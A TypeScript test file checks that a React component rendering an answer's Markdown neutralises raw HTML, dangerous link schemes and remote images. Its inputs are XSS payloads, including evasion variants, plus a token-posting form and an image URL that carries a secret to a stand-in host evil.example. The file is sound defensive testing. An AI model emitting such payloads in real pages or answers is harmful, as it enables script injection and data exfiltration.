import { renderToStaticMarkup } from "react-dom/server";
import { createRoutesStub } from "react-router";
import { describe, expect, it } from "vitest";
import { AnswerText } from "./answer-text.tsx";

function htmlOf(text: string, sources = 0): string {
  const Page = createRoutesStub([
    { path: "/", Component: () => <AnswerText text={text} codes={[]} sources={sources} anchor="a" /> },
  ]);
  return renderToStaticMarkup(<Page initialEntries={["/"]} />);
}

/** The elements and addresses of a page; text that only looks like them is none. */
const tagsOf = (html: string): string[] =>
  Array.from(html.matchAll(/<([a-z0-9]+)/g), match => match[1] ?? "");
const addressesOf = (html: string): string[] =>
  Array.from(html.matchAll(/ (?:href|src|srcset|action|style)="([^"]*)"/g), match => match[1] ?? "");

describe("an answer's Markdown", () => {
  it.each([
    ["a script", "<script>alert(1)</script>"],
    ["a script inside a line", "Look: <script src=//evil.example/x.js></script> there"],
    ["a picture with a handler", "<img src=x onerror=alert(1)>"],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    ["a form", '<form action="https://evil.example"><input name=token></form>'],
    ["a style sheet", "<style>*{display:none}</style>\n\n<link rel=stylesheet href=//evil.example>"],
    ["vector graphics", "<svg><script>alert(1)</script></svg>"],
    ["a broken tag", "<scr<script>ipt>alert(1)</script>"],
    ["HTML in a heading", "# <img src=x onerror=alert(1)>"],
    ["HTML in a list", "- <a href='javascript:alert(1)'>x</a>"],
    ["HTML in a table", "| a |\n| - |\n| <img src=x onerror=alert(1)> |"],
    ["HTML in a quotation", "> <b onmouseover=alert(1)>x</b>"],
  ])("shows %s as it was written", (_title, text) => {
    const html = htmlOf(text);
    expect(tagsOf(html)).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/^(script|img|iframe|form|input|style|link|svg|b)$/)]),
    );
    expect(addressesOf(html)).toEqual([]);
    expect(html).toContain("&lt;");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/logout)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
  ])("leads nowhere from %j", text => expect(addressesOf(htmlOf(text))).toEqual([]));

  it("loads no picture: it is a link that names its host", () => {
    const html = htmlOf("![a cat](https://evil.example/pixel.png?question=secret)");
    expect(tagsOf(html)).not.toContain("img");
    expect(html).toContain("(evil.example)");
    expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
    expect(html).toContain("a cat");
  });

  it("shows whose link it is, whatever the link calls itself", () => {
    const html = htmlOf("[https://discord.com](https://evil.example/login)");
    expect(addressesOf(html)).toEqual(["https://evil.example/login"]);
    expect(html).toContain("(evil.example)");
  });

  it("keeps code as code", () => {
    const html = htmlOf("```html\n<script>alert(1)</script>\n```");
    expect(tagsOf(html)).not.toContain("script");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("leads to sources that are there, and to no others", () => {
    expect(addressesOf(htmlOf("So [1] and [3].", 2))).toEqual(["#a-1"]);
  });
});
